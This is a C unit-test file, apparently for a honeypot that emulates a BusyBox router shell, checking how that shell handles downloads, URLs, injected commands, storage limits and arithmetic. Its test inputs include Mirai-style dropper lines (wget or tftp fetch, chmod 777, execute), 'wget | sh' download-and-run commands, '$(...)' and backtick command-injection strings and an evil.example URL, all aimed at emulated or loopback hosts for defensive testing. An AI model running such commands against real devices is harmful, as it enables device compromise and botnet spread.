	r.len = strlen(data);
	r.peer_ip = "127.0.0.1";
	r.connected = true;
	r.ms = ms;
	buf_reset(&fx->h.out);
	sh_fetch_done(fx->sh, &r);
	return fx->h.out.p ? fx->h.out.p : "";
}

static const char *done_fail(struct fixture *fx, const char *reason, const char *detail, int code,
			     bool connected)
{
	struct sh_fetch_result r;

	memset(&r, 0, sizeof r);
	r.reason = reason;
	r.detail = detail;
	r.code = code;
	r.status_line = "HTTP/1.1 404 Not Found";
	r.ftp_cmd = "PASS";
	r.peer_ip = connected || !strcmp(reason, "connect") ? "127.0.0.1" : "";
	r.connected = connected;
	r.ms = 30000;
	buf_reset(&fx->h.out);
	sh_fetch_done(fx->sh, &r);
	return fx->h.out.p ? fx->h.out.p : "";
}

#define P "[root@router /var]# "
#define METER_0(name) "\r" name "   0% |                               |     0  --:--:-- ETA"
#define METER_100(name, size)                                                                      \
	"\r" name " 100% |*******************************|" size "  --:--:-- ETA\n"

/* `wget -qO- URL | sh`: the downloaded script runs in the emulated shell */
static void t_fetch_pipe_sh(void **state)
{
	struct fixture *fx = *state;

	new_fetch_shell(fx);
	RUN_EQ(fx, "wget -q -O - http://127.0.0.1:8080/i.sh | sh; echo after $?", "");
	assert_true(sh_waiting(fx->sh));
	assert_string_equal(fx->h.f_url, "http://127.0.0.1:8080/i.sh");
	assert_string_equal(done_ok(fx, "echo fetched $((6*7))\ncd /var; echo $0; exit 3\n", 9),
			    "fetched 42\nsh\nafter 3\n[root@router /]# ");
	/* it ran in a child shell: the cwd is the caller's */
	RUN_EQ(fx, "pwd", "/\n[root@router /]# ");
}

static void t_fetch_wait(void **state)
{
	struct fixture *fx = *state;

	new_fetch_shell(fx);
	RUN_EQ(fx, "cd /var; wget http://127.0.0.1:8080/bins/x -O y; chmod 777 y; ls -l y; cat y",
	       "");
	assert_true(sh_waiting(fx->sh));
	assert_int_equal(fx->h.nfetch, 1);
	assert_string_equal(fx->h.f_url, "http://127.0.0.1:8080/bins/x");
	assert_string_equal(fx->h.f_applet, "wget");
	assert_string_equal(fx->h.f_outfile, "/var/y");
	/* the request went to the host's fetch, not to the event */
	assert_null(find_ev(&fx->h, SH_EV_FETCH));
	/* typed while waiting: kept, run afterwards */
	RUN_EQ(fx, "echo queued; /bin/busybox ECCHI", "");
	assert_string_equal(
	    done_ok(fx, "hello world\n", 5),
	    "Connecting to 127.0.0.1:8080 (127.0.0.1:8080)\n" METER_0("y                   ")
		METER_100("y                   ",
			  "    12") "-rwxrwxrwx    1 root     root            12 Nov 17 23:13 y\n"
				    "hello world\n" P "queued\nECCHI: applet not found\n" P);
	assert_false(sh_waiting(fx->sh));
	/* the fetcher stored the file: chmod and the run capture nothing */
	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 0);
	host_clear(&fx->h);

	/* failures, and && || after them */
	RUN_EQ(fx, "wget http://127.0.0.1:8080/nope && echo ok || echo failed", "");
	assert_string_equal(fx->h.f_outfile, "/var/nope");
	assert_string_equal(done_fail(fx, "http_status", "404", 404, true),
			    "Connecting to 127.0.0.1:8080 (127.0.0.1:8080)\n"
			    "wget: server returned error: HTTP/1.1 404 Not Found\n"
			    "failed\n" P);
	RUN_EQ(fx, "ls nope", "ls: nope: No such file or directory\n" P);
	RUN_EQ(fx, "wget http://127.0.0.1:1/x", "");
	assert_string_equal(
	    done_fail(fx, "connect", "Connection refused", 0, false),
	    "Connecting to 127.0.0.1:1 (127.0.0.1:1)\n"
	    "wget: can't connect to remote host (127.0.0.1): Connection refused\n" P);
	RUN_EQ(fx, "wget -q http://nosuch.example/x; echo $?", "");
	assert_string_equal(done_fail(fx, "dns", "no address", 0, false),
			    "wget: bad address 'nosuch.example'\n1\n" P);
	RUN_EQ(fx, "wget http://127.0.0.1:8080/slow", "");
	assert_string_equal(done_fail(fx, "timeout", NULL, 0, true),
			    "Connecting to 127.0.0.1:8080 (127.0.0.1:8080)\n"
			    "wget: download timed out\n" P);
	RUN_EQ(fx, "wget http://127.0.0.1:8080/slow", "");
	assert_string_equal(
	    done_fail(fx, "timeout", NULL, 0, false),
	    "Connecting to 127.0.0.1:8080 (127.0.0.1:8080)\n"
	    "wget: can't connect to remote host (127.0.0.1): Connection timed out\n" P);
	host_clear(&fx->h);

	/* Mirai: -O - into a redirection */
	RUN_EQ(fx,
	       "/bin/busybox wget http://127.0.0.1:8080/bins/mirai.mips -O - > dvrHelper; "
	       "/bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
	       "");
	assert_string_equal(fx->h.f_outfile, "/var/dvrHelper");
	assert_string_equal(
	    done_ok(fx,
		    "\x7f"
		    "ELFbody",
		    1500),
	    "Connecting to 127.0.0.1:8080 (127.0.0.1:8080)\n" METER_0(
		"-                   ") "\r-                    100% "
					"|*******************************|     8  00:00:00 ETA\n"
					"ECCHI: applet not found\n" P);
	RUN_EQ(fx, "cat dvrHelper",
	       "\x7f"
	       "ELFbody" P);
	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 0);
	host_clear(&fx->h);

	/* tftp: silent on success, BusyBox's texts on failure */
	RUN_EQ(fx, "/bin/busybox tftp -g -l t1 -r mirai.arm 127.0.0.1 6969; ls t1", "");
	assert_string_equal(fx->h.f_url, "tftp://127.0.0.1:6969/mirai.arm");
	assert_string_equal(done_ok(fx, "tftp data", 3), "t1\n" P);
	RUN_EQ(fx, "tftp -g -r nofile 127.0.0.1", "");
	assert_string_equal(done_fail(fx, "tftp_error", "File not found", 1, false),
			    "tftp: server error: (1) File not found\n" P);
	RUN_EQ(fx, "tftp -g -r x 127.0.0.1", "");
	assert_string_equal(done_fail(fx, "timeout", "no answer", 0, false), "tftp: timeout\n" P);

	/* ftpget hands its login to the fetcher */
	RUN_EQ(fx, "ftpget -u bob -p s3cret 127.0.0.1 f.sh bins/f.sh; cat f.sh", "");
	assert_string_equal(fx->h.f_url, "ftp://127.0.0.1/bins/f.sh");
	assert_string_equal(fx->h.f_user, "bob");
	assert_string_equal(fx->h.f_pass, "s3cret");
	assert_string_equal(done_ok(fx, "#!/bin/sh\n", 3), "#!/bin/sh\n" P);
	RUN_EQ(fx, "ftpget -u bob 127.0.0.1 g.sh g.sh", "");
	assert_string_equal(fx->h.f_pass, "busybox@");
	assert_string_equal(done_fail(fx, "ftp_error", "530 Login incorrect.", 530, true),
			    "ftpget: unexpected server response to PASS: 530 Login incorrect.\n" P);
	RUN_EQ(fx, "ftpget 127.0.0.1 h.sh h.sh", "");
	assert_string_equal(fx->h.f_user, "");

	/* still waiting when the session ends: freed by teardown */
	RUN_EQ(fx, "", "");
}

static int cancels;

static void h_fetch_cancel(void *ctx)
{
	(void)ctx;
	cancels++;
}

/* Ctrl-C (sh_interrupt) while a line waits for its download: the host is
 * told to drop the download, the rest of the line and what was typed
 * meanwhile are gone, a new prompt; a late result changes nothing.
 * Ctrl-D (sh_eof) leaves the level: the login shell ends the session. */
static void t_interrupt_and_eof(void **state)
{
	struct fixture *fx = *state;
	struct sh_host hh = {&fx->h,  h_out, h_pause, h_event,	      h_now, NULL,
			     h_fetch, NULL,  NULL,    h_fetch_cancel, NULL};

	fx->h.fetch_rc = 1;
	fx->sh = sh_new(&fx->p, &hh, true);
	assert_non_null(fx->sh);
	run(fx, "cd /var");
	cancels = 0;
	RUN_EQ(fx, "wget http://127.0.0.1:8080/x -O y; echo rest", "");
	RUN_EQ(fx, "echo typed", "");
	assert_true(sh_waiting(fx->sh));
	buf_reset(&fx->h.out);
	sh_interrupt(fx->sh);
	assert_string_equal(fx->h.out.p, P);
	assert_int_equal(cancels, 1);
	assert_false(sh_waiting(fx->sh));
	assert_string_equal(done_ok(fx, "late\n", 5), ""); /* ignored */
	RUN_EQ(fx, "ls y; echo $?", "ls: y: No such file or directory\n1\n" P);
	/* an unfinished construct is dropped too */
	RUN_EQ(fx, "echo 'open", "> ");
	buf_reset(&fx->h.out);
	sh_interrupt(fx->sh);
	assert_string_equal(fx->h.out.p, P);
	RUN_EQ(fx, "echo x", "x\n" P); /* not inside the quote any more */
	buf_reset(&fx->h.out);
	sh_eof(fx->sh);
	assert_string_equal(fx->h.out.p, "\n");
	assert_int_equal(sh_mode(fx->sh), SH_MODE_DONE);
}

static void t_fetch_wait_more(void **state)
{
	struct fixture *fx = *state;
	int i;

	new_fetch_shell(fx);
	run(fx, "cd /var");
	/* `sh FILE` reads the file: no x bit needed, unlike ./FILE */
	RUN_EQ(fx, "echo 'echo hi' > s; sh s; ./s", "hi\n-sh: ./s: Permission denied\n" P);
	RUN_EQ(fx, "for i in 1; do wget http://1.2.3.4/x; done",
	       "Connecting to 1.2.3.4 (1.2.3.4:80)\n"
	       "wget: can't connect to remote host (1.2.3.4): Network is unreachable\n" P);
	assert_int_equal(fx->h.nfetch, 0);
	assert_non_null(find_ev(&fx->h, SH_EV_FETCH));
	/* refused by the host: the failure at once, the line goes on */
	fx->h.fetch_rc = 0;
	RUN_EQ(fx, "wget http://1.2.3.4/x; echo next",
	       "Connecting to 1.2.3.4 (1.2.3.4:80)\n"
	       "wget: can't connect to remote host (1.2.3.4): Network is unreachable\n"
	       "next\n" P);
	assert_int_equal(fx->h.nfetch, 1);
	fx->h.fetch_rc = 1;
	/* a pipeline resumes into its right side */
	RUN_EQ(fx, "wget -q -O - http://127.0.0.1/s | wc -c", "");
	assert_string_equal(done_ok(fx, "abcdef", 1), "6\n" P);
	/* an if/while body does not wait; a second wait in one line does */
	RUN_EQ(fx, "wget -q http://127.0.0.1/a; wget -q http://127.0.0.1/b; ls a b", "");
	assert_string_equal(done_ok(fx, "A", 1), "");
	assert_true(sh_waiting(fx->sh));
	assert_string_equal(fx->h.f_url, "http://127.0.0.1/b");
	assert_string_equal(done_ok(fx, "BB", 1), "a\nb\n" P);
	/* injected (a door): no wait, the applet succeeds, the host stores */
	fx->h.nfetch = 0;
	buf_reset(&fx->h.out);
	sh_inject(fx->sh, "wget http://127.0.0.1/d -O /var/d && echo x > /var/e", 52);
	assert_int_equal(fx->h.out.len, 0);
	assert_int_equal(fx->h.nfetch, 1);
	assert_string_equal(fx->h.f_outfile, "/var/d");
	assert_false(sh_waiting(fx->sh));
	assert_int_equal(sh_fetch_store(fx->sh, "/var/d", (const uint8_t *)"DDD", 3), 0);
	assert_int_equal(sh_fetch_store(fx->sh, "/proc/x", (const uint8_t *)"DDD", 3) < 0, 1);
	RUN_EQ(fx, "cat d; cat e", "DDDx\n" P);
	/* the queue is bounded; an end while waiting leaks nothing */
	RUN_EQ(fx, "wget -q http://127.0.0.1/c", "");
	for (i = 0; i < 100; i++)
		RUN_EQ(
		    fx,
		    "echo 0123456789012345678901234567890123456789012345678901234567890123456789",
		    "");
	sh_end(fx->sh);
	/* not waiting: ignored */
	buf_reset(&fx->h.out);
}

/* The shell's own URL rules (ap_fetch.c over common/url.h), as the
 * applets show them: a lower-case scheme only, userinfo ended by the first
 * '@', the port after the last ':' with any number of digits, the path
 * taken as written (query and fragment), messages from host and address. */
static void t_fetch_url(void **state)
{
	static char *names[] = {"busybox", "curl", "tftp", "wget"};
	struct fixture *fx = *state;
	const struct ev *e;

	fx->p.applets = names;
	fx->p.napplets = sizeof names / sizeof names[0];
	new_shell(fx, &fx->p, true);
	run(fx, "cd /var");
	RUN_EQ(fx, "wget HTTP://1.2.3.4/x", "wget: not an http or ftp url: HTTP://1.2.3.4/x\n" P);
	assert_null(find_ev(&fx->h, SH_EV_FETCH));
	RUN_EQ(fx, "curl Http://1.2.3.4/x; echo $?", "curl: (1) Protocol not supported\n1\n" P);
	RUN_EQ(fx, "wget http://u@x@1.2.3.4/f", "wget: bad address 'x@1.2.3.4'\n" P);
	RUN_EQ(fx, "wget http://u:p@1.2.3.4:8080/f",
	       "Connecting to 1.2.3.4:8080 (1.2.3.4:8080)\n"
	       "wget: can't connect to remote host (1.2.3.4): Network is unreachable\n" P);
	RUN_EQ(fx, "wget http://1.2.3.4:000080/f",
	       "Connecting to 1.2.3.4:000080 (1.2.3.4:80)\n"
	       "wget: can't connect to remote host (1.2.3.4): Network is unreachable\n" P);
	RUN_EQ(fx, "wget http://1.2.3.4:0/f",
	       "wget: not an http or ftp url: http://1.2.3.4:0/f\n" P);
	RUN_EQ(fx, "wget http://1.2.3.4:65536/f",
	       "wget: not an http or ftp url: http://1.2.3.4:65536/f\n" P);
	RUN_EQ(fx, "wget http://1.2.3.4:/f", "wget: not an http or ftp url: http://1.2.3.4:/f\n" P);
	RUN_EQ(fx, "wget http://a:b:80/f", "wget: bad address 'a:b'\n" P);
	RUN_EQ(fx, "wget http://[::1]:8080/f", "wget: bad address '[::1]'\n" P);
	RUN_EQ(fx, "wget http://[::1]/f", "wget: bad address '[::1]'\n" P);
	RUN_EQ(fx, "wget http://[::1]x/f", "wget: bad address '[::1]x'\n" P);
	RUN_EQ(fx, "wget http://[::1/f", "wget: bad address '[:'\n" P);
	host_clear(&fx->h);
	RUN_EQ(fx, "wget 'http://1.2.3.4/d/f.sh?x=1#top'",
	       "Connecting to 1.2.3.4 (1.2.3.4:80)\n"
	       "wget: can't connect to remote host (1.2.3.4): Network is unreachable\n" P);
	e = find_ev(&fx->h, SH_EV_FETCH);
	assert_non_null(e);
	assert_string_equal(e->url, "http://1.2.3.4/d/f.sh?x=1#top");
	assert_string_equal(e->outfile, "/var/f.sh?x=1#top");
	host_clear(&fx->h);
	run(fx, "wget http://1.2.3.4?q");
	assert_string_equal(find_ev(&fx->h, SH_EV_FETCH)->outfile, "/var/?q");
	RUN_EQ(fx, "curl -O http://1.2.3.4:00080/a/b.sh?v#f; echo $?",
	       "curl: (7) Failed to connect to 1.2.3.4 port 80: Connection timed out\n7\n" P);
	RUN_EQ(fx, "curl 1.2.3.4:8080/x; echo $?",
	       "curl: (7) Failed to connect to 1.2.3.4 port 8080: Connection timed out\n7\n" P);
	RUN_EQ(fx, "curl http://u@x@evil.example/x; echo $?",
	       "curl: (6) Couldn't resolve host 'x@evil.example'\n6\n" P);
	RUN_EQ(fx, "curl HTTP://1.2.3.4/x; echo $?", "curl: (1) Protocol not supported\n1\n" P);
	host_clear(&fx->h);
	RUN_EQ(fx, "tftp -g -r x 1.2.3.4 0069", "tftp: sendto: Network is unreachable\n" P);
	assert_string_equal(find_ev(&fx->h, SH_EV_FETCH)->url, "tftp://1.2.3.4:0069/x");
}

static void t_inject(void **state)
{
	struct fixture *fx = *state;
	const char *cmd = "$(/bin/busybox wget -g 1.2.3.4 -l /var/f -r /mips; "
			  "/bin/busybox chmod 777 * /var/f; /var/f huawei)";
	const struct ev *e;

	new_shell(fx, &fx->p, true);
	run(fx, "cd /dev");
	host_clear(&fx->h);
	sh_inject(fx->sh, cmd, strlen(cmd));
	assert_int_equal(fx->h.out.len, 0);
	e = find_ev(&fx->h, SH_EV_FETCH);
	assert_non_null(e);
	assert_string_equal(e->url, "http://1.2.3.4/mips");
	assert_string_equal(e->outfile, "/var/f");
	assert_int_equal(count_ev(&fx->h, SH_EV_COMMAND), 1);
	/* backticks as in the Realtek door; the session cwd is untouched */
	cmd = "`cd /var; echo -n built > x; chmod +x x; ./x`";
	sh_inject(fx->sh, cmd, strlen(cmd));
	e = find_ev(&fx->h, SH_EV_CAPTURE);
	assert_non_null(e);
	assert_string_equal(e->outfile, "/var/x");
	assert_string_equal(e->reason, "chmod");
	RUN_EQ(fx, "pwd", "/dev\n[root@router /dev]# ");
}

/* A shell drawing on pool (NULL: the default one). */
static struct sh *new_pool_shell(struct fixture *fx, struct vfs_pool *pool)
{
	struct sh_host hh = {&fx->h, h_out, h_pause, h_event, h_now, NULL,
			     NULL,   pool,  NULL,    NULL,    NULL};
	struct sh *sh = sh_new(&fx->p, &hh, true);

	assert_non_null(sh);
	return sh;
}

/* Runs a line in shell sh (not fx->sh) and returns the output. */
static const char *run_in(struct fixture *fx, struct sh *sh, const char *line)
{
	buf_reset(&fx->h.out);
	sh_line(sh, line, strlen(line));
	return fx->h.out.p ? fx->h.out.p : "";
}

/* fs_kb and fs_total_kb from the config bound the session's files: a write
 * past them fails as on a full flash, and the default pool is untouched. */
static void t_fs_kb(void **state)
{
	static const char *const conf = "config tanuki 'main'\n"
					"\toption store '/nonexistent'\n"
					"\toption fs_kb '16'\n"
					"\toption fs_total_kb '64'\n"
					"config listener 't'\n"
					"\toption proto 'telnet'\n"
					"\toption port '2323'\n";
	/* 4000 bytes, then four copies of them: 20000 bytes in all */
	static const char *const fill = "cd /var; cat a a a a > b";
	struct fixture *fx = *state;
	struct config *cfg = calloc(1, sizeof *cfg);
	char path[] = "/tmp/tanuki-fs-kb-XXXXXX", err[256], line[CAP_LINE];
	struct vfs_pool pool;
	struct sh *shells[5];
	const char *out;
	FILE *f;
	int fd, i;

	assert_non_null(cfg);
	fd = mkstemp(path);
	assert_true(fd >= 0);
	f = fdopen(fd, "w");
	assert_non_null(f);
	fputs(conf, f);
	fclose(f);
	assert_int_equal(config_load(cfg, path, err, sizeof err), 0);
	unlink(path);
	assert_int_equal(cfg->fs_session, 16 * 1024);
	assert_int_equal(cfg->fs_total, 64 * 1024);
	vfs_pool_init(&pool, cfg->fs_session, cfg->fs_total);
	free(cfg);

	memcpy(line, "echo ", 5);
	memset(line + 5, 'A', 3999);
	snprintf(line + 4004, sizeof line - 4004, " > /var/a");

	/* the default caps (1 MB a session) take the 20000 bytes */
	new_shell(fx, &fx->p, true);
	run(fx, line);
	out = run(fx, fill);
	assert_null(strstr(out, "No space left on device"));
	assert_int_equal(sh_fs_default()->total, 4000 + 16000);
	sh_free(fx->sh);
	fx->sh = NULL;
	assert_int_equal(sh_fs_default()->total, 0);

	/* fs_kb 16: the copy does not fit */
	fx->sh = new_pool_shell(fx, &pool);
	run(fx, line);
	assert_int_equal(pool.total, 4000);
	out = run(fx, fill);
	assert_string_equal(out, "cat: write error: No space left on device\n"
				 "[root@router /var]# ");
	assert_true(pool.total <= 16 * 1024);
	assert_int_equal(sh_fs_default()->total, 0);
	/* a file that fits is still written */
	RUN_EQ(fx, "rm b; cat a a a > c; wc -c c", "12000 c\n[root@router /var]# ");

	/* fs_total_kb 64: 16000 bytes here and in three more sessions fill
	 * 64000 of 65536; the fourth and fifth cannot write their 4000 */
	for (i = 0; i < 5; i++) {
		shells[i] = new_pool_shell(fx, &pool);
		out = run_in(fx, shells[i], line);
		if (i < 3) {
			assert_string_equal(out, "[root@router /]# ");
			out = run_in(fx, shells[i], "cd /var; cat a a a > b; echo $?");
			assert_string_equal(out, "0\n[root@router /var]# ");
		} else {
			assert_string_equal(out, "echo: write error: No space left on device\n"
						 "[root@router /]# ");
		}
	}
	assert_int_equal(pool.total, 4 * 16000);
	for (i = 0; i < 5; i++)
		sh_free(shells[i]);
	sh_free(fx->sh);
	fx->sh = NULL;
	assert_int_equal(pool.total, 0);
}

static void t_caps(void **state)
{
	struct fixture *fx = *state;
	char line[CAP_LINE];
	const char *out;

	new_shell(fx, &fx->p, true);
	memcpy(line, "echo ", 5);
	memset(line + 5, 'A', 4000);
	snprintf(line + 4005, sizeof line - 4005, " > /var/a");
	run(fx, line);
	out = run(fx, "cd /var; cat a a a a a a a a > b; cat b b b b b b b b > c; cat c c c c c c "
		      "c c > d; echo $?");
	assert_non_null(strstr(out, "No space left on device"));
	assert_true(sh_fs_default()->total <= CAP_FS_SESSION);
	/* many files: the node cap */
	out = run(fx, "for a in 0 1 2 3 4 5 6 7 8 9; do for b in 0 1 2 3 4 5 6 7 8 9; do for c in "
		      "0 1 2 3 4 5 6 7; do touch f$a$b$c; done; done; done");
	assert_non_null(strstr(out, "No space left on device"));
	/* runaway loops end */
	out = run(fx, "while true; do echo y; done");
	assert_true(fx->h.out.len <= CAP_SH_OUTPUT + 64);
	out = run(fx, "X='$(eval $X)'; eval $X; echo done");
	assert_non_null(strstr(out, "done\n"));
	/* deep nesting */
	out = run(fx, "echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo "
		      "deep))))))))))");
	assert_non_null(out);
	/* the session can still work */
	RUN_EQ(fx, "rm -rf /var/*; echo ok > /var/z; cat /var/z", "ok\n[root@router /var]# ");
}

static void t_su_ps_kill(void **state)
{
	struct fixture *fx = *state;
	const char *out;

	new_shell(fx, &fx->p, false);
	RUN_EQ(fx, "su", "Password: ");
	assert_int_equal(sh_mode(fx->sh), SH_MODE_PASSWORD);
	RUN_EQ(fx, "wrong", "\nsu: incorrect password\n$ ");
	assert_int_equal(find_ev(&fx->h, SH_EV_SU)->status, 1);
	host_clear(&fx->h);
	RUN_EQ(fx, "su", "Password: ");
	RUN_EQ(fx, "zyad5001", "\n[root@router /]# ");
	assert_int_equal(find_ev(&fx->h, SH_EV_SU)->status, 0);
	RUN_EQ(fx, "exit", "$ ");
	out = run(fx, "ps");
	assert_non_null(strstr(out, "  PID USER       VSZ STAT COMMAND\n"
				    "    1 root      1524 S    init\n"
				    "    2 root         0 SW<  [kthreadd]\n"
				    "    3 root         0 SW<  [ksoftirqd/0]\n"
				    "  400 root      1520 S    /sbin/syslogd\n"));
	{
		/* the login shell's pid: the unit's counter (pid_next and on),
		 * the one $$ gives */
		char row[64];
		unsigned long me = strtoul(run(fx, "echo $$"), NULL, 10);

		assert_true(me >= 1201 && me < 32000);
		snprintf(row, sizeof row, " %lu admin     1532 S    -sh\n", me);
		out = run(fx, "ps");
		assert_non_null(strstr(out, row));
	}
	RUN_EQ(fx, "kill -9 400; kill 99999", "kill: can't kill pid 99999: No such process\n$ ");
	out = run(fx, "ps");
	assert_null(strstr(out, "syslogd"));
	RUN_EQ(fx, "uname -a",
	       "Linux router 2.6.36 #1 Fri Jan 1 00:00:00 CST 2016 mips unknown\n$ ");
	RUN_EQ(fx, "uname -m", "mips\n$ ");
	{
		/* memory moves around the image's figures (procfs.c); the
		 * columns add up */
		unsigned long t, u, f, sh_, bu;

		out = run(fx, "free");
		assert_non_null(strstr(
		    out,
		    "              total         used         free       shared      buffers\n"));
		assert_int_equal(sscanf(strstr(out, "  Mem:"), "  Mem: %lu %lu %lu %lu %lu", &t, &u,
					&f, &sh_, &bu),
				 5);
		assert_int_equal(t, 28616);
		assert_int_equal(u + f, t);
		assert_true(f > 6136 - 600 && f < 6136 + 600);
		assert_true(bu >= 2024 && bu < 2024 + 24);
	}
	out = run(fx, "cat /proc/uptime");
	assert_memory_equal(out, "262800.", 7); /* boot_time is 3 days before now */
	assert_non_null(strstr(out, " 252288."));
	RUN_EQ(fx, "sleep 100", "$ ");
	assert_int_equal(fx->h.pauses[fx->h.npause - 1], CAP_SLEEP_MS);
}

static void t_cli(void **state)
{
	struct fixture *fx = *state;

	pstr(&fx->p.cli_prompt, "ATP>");
	pstr(&fx->p.cli_unknown, "Command failed.\n");
	pstr(&fx->p.shell_banner, "\n\nBusyBox vv1.9.1 built-in shell (ash)\n\n");
	fx->cli[0].name = "shell";
	pstr(&fx->cli[0].output, "\n");
	fx->cli[0].action = CLI_SHELL;
	fx->cli[1].name = "quit";
	pstr(&fx->cli[1].output, "Bye\n");
	fx->cli[1].action = CLI_EXIT;
	fx->p.cli = true;
	fx->p.clicmds = fx->cli;
	fx->p.nclicmds = 2;
	pstr(&fx->p.prompt_root, "# ");
	new_shell(fx, &fx->p, true);
	sh_start(fx->sh);
	assert_string_equal(fx->h.out.p, "Welcome\nATP>");
	assert_int_equal(sh_mode(fx->sh), SH_MODE_CLI);
	RUN_EQ(fx, "enable", "Command failed.\nATP>");
	RUN_EQ(fx, "", "ATP>");
	RUN_EQ(fx, "shell", "\n\n\nBusyBox vv1.9.1 built-in shell (ash)\n\n# ");
	assert_int_equal(sh_mode(fx->sh), SH_MODE_SHELL);
	RUN_EQ(fx, "/bin/busybox ECCHI", "ECCHI: applet not found\n# ");
	RUN_EQ(fx, "exit", "ATP>");
	RUN_EQ(fx, "quit", "Bye\n");
	assert_int_equal(sh_mode(fx->sh), SH_MODE_DONE);
	assert_int_equal(count_ev(&fx->h, SH_EV_COMMAND), 6);
}

/* The real persona from personas/, when the loader can read it. */
static void t_real_persona(void **state)
{
	struct fixture *fx = *state;
	struct persona_unit unit;
	char err[256];
	const char *out;
	size_t i;

	memset(&unit, 0, sizeof unit);
	for (i = 0; i < sizeof unit.seed; i++)
		unit.seed[i] = (uint8_t)i;
	unit.first_start = 1700000000;
	fx->loaded = persona_load("personas", "xiongmai-dvr", &unit, err, sizeof err);
	if (!fx->loaded) {
		print_message("skipped: %s\n", err);
		skip();
	}
	new_shell(fx, fx->loaded, true);
	sh_start(fx->sh);
	/* the login shell read the tree's /etc/profile (its output is the
	 * persona's motd); env lists in ash's hash-chain order, no SHLVL
	 * before 1.23 */
	out = run(fx, "env");
	assert_string_equal(out, "USER=root\nLD_LIBRARY_PATH=/usr/lib:/lib\nHOME=/\nLOGNAME=root\n"
				 "TERM=vt102\nPATH=/bin:/sbin:/usr/bin:/usr/sbin\nSHELL=/bin/sh\n"
				 "PWD=/\n# ");
	out = run(fx, "enable");
	assert_non_null(strstr(out, "-sh: enable: not found\n"));
	out = run(fx, "/bin/busybox ps; /bin/busybox ECCHI");
	assert_non_null(strstr(out, "ECCHI: applet not found\n"));
	out = run(fx, "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI");
	assert_non_null(strstr(out, " rw"));
	out = run(
	    fx,
	    "echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; cat /dev/.nippon; rm /dev/.nippon");
	assert_memory_equal(out, "kami/dev\n", 9);
	out = run(fx, "cd /dev/; cp /bin/echo dvrHelper; >dvrHelper; chmod 777 dvrHelper; echo ok");
	assert_memory_equal(out, "ok\n", 3);
	out = run(fx, "/bin/busybox cat /proc/cpuinfo /proc/uptime; free; df; ls /; ps; uname -a");
	assert_null(strstr(out, "ELF"));
	out = run(fx, "/bin/busybox cat /bin/echo");
	assert_memory_equal(out,
			    "\x7f"
			    "ELF",
			    4);
	assert_int_equal((unsigned char)out[5], fx->loaded->elf.ei_data);
	out = run(fx, "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI");
	if (persona_has_applet(fx->loaded, "tftp"))
		assert_null(strstr(out, "tftp: applet not found"));
	if (!persona_has_applet(fx->loaded, "wget"))
		assert_non_null(strstr(out, "wget: applet not found"));
}

/* ------------------------------------------------------------------ */
/* the language of ash: expected bytes from BusyBox 1.35.0's ash (the   */
/* oracle of tests/diff, build/oracle/busybox-1.35.0/busybox)           */

#define PROMPT "[root@router /]# "
#define LANG_EQ(fx, line, want) RUN_EQ(fx, line, want PROMPT)

static void t_arith(void **state)
{
	struct fixture *fx = *state;

	new_shell(fx, &fx->p, true);
	LANG_EQ(fx, "echo $((1+2)) $((7/2)) $((2**3))", "3 3 8\n");
	LANG_EQ(fx, "echo $((10%3)) $((1<<4)) $((255>>4)) $((5&3)) $((5|3)) $((5^3))",
		"1 16 15 1 7 6\n");
	LANG_EQ(fx, "echo $((1<2)) $((2<1)) $((1==1)) $((1!=1)) $((!0)) $((~0))", "1 0 1 0 1 -1\n");
	LANG_EQ(fx, "echo $((7>=7)) $((3<=2)) $((1 && 0)) $((0 || 5))", "1 0 0 1\n");
	LANG_EQ(fx, "echo $((1?2:3)) $((0?2:3)) $((0?1:0?2:3)) $((0 ? 1 : 2 + 5))", "2 3 3 7\n");
	LANG_EQ(fx,
		"x=5; echo $((x<<=1)) $((x>>=1)) $((x*=3)) $((x/=2)) $((x%=4)) $((x&=3)) "
		"$((x|=8)) $((x^=1)) $((x-=1))",
		"10 5 15 7 3 3 11 10 9\n");
	LANG_EQ(fx, "echo $((a=b=3)) $a $b", "3 3 3\n");
	LANG_EQ(fx, "x=5; echo $((x++)) $x $((++x)) $((x--)) $((--x)) $x", "5 6 7 7 5 5\n");
	LANG_EQ(fx, "x=5; echo $((x+1)) $((x*x)) $(($x-1))", "6 25 4\n");
	LANG_EQ(fx, "echo $((0x10)) $((010)) $((2#101)) $((16#ff)) $((36#Z)) $((64#Z)) $((64#_))",
		"16 8 5 255 35 61 63\n");
	LANG_EQ(fx, "echo $((-2**2)) $((2**3**2)) $((2**63)) $((2**64))",
		"4 512 -9223372036854775808 0\n");
	LANG_EQ(fx, "echo $((1 << 64)) $((1<<-1))", "1 -9223372036854775808\n");
	LANG_EQ(fx, "echo $((18446744073709551615)) $((18446744073709551616))", "-1 0\n");
	LANG_EQ(fx, "echo $((1++2)) $((3 -- 1)) $((-3/2)) $((-3%2)) $((3 % -2))", "3 4 -1 -1 1\n");
	LANG_EQ(fx, "echo $(( (-9223372036854775807-1) / -1 ))", "-9223372036854775808\n");
	LANG_EQ(fx, "x=1+2; echo $((x*3)); x=' 12 '; echo $((x+1)); x=; echo $((x+1))",
		"9\n13\n1\n");
	/* nothing short-circuits: both sides run */
	LANG_EQ(fx, "echo $((0 && (y=5))) $y", "0 5\n");
	LANG_EQ(fx, "echo $((4,z=3,z*2)) $(( )) $((w))", "6 0 0\n");
	/* errors end the line with $? 2 */
	LANG_EQ(fx, "echo $((1/0)); echo after", "-sh: divide by zero\n");
	LANG_EQ(fx, "echo $?", "2\n");
	LANG_EQ(fx, "echo $((1+))", "-sh: arithmetic syntax error\n");
	LANG_EQ(fx, "echo $((08))", "-sh: arithmetic syntax error\n");
	LANG_EQ(fx, "echo $((1e3))", "-sh: arithmetic syntax error\n");
	LANG_EQ(fx, "echo $((2**-1))", "-sh: exponent less than 0\n");
	LANG_EQ(fx, "echo $((1?2))", "-sh: malformed ?: operator\n");
	LANG_EQ(fx, "x=x; echo $((x))", "-sh: expression recursion loop detected\n");
	LANG_EQ(fx, "x=y; y=x; echo $((x+1))", "-sh: expression recursion loop detected\n");
	LANG_EQ(fx, "i=0; while [ $i -lt 3 ]; do echo $i; i=$((i+1)); done", "0\n1\n2\n");
	/* a deep expression ends within the nesting cap */
	{
		char line[600];
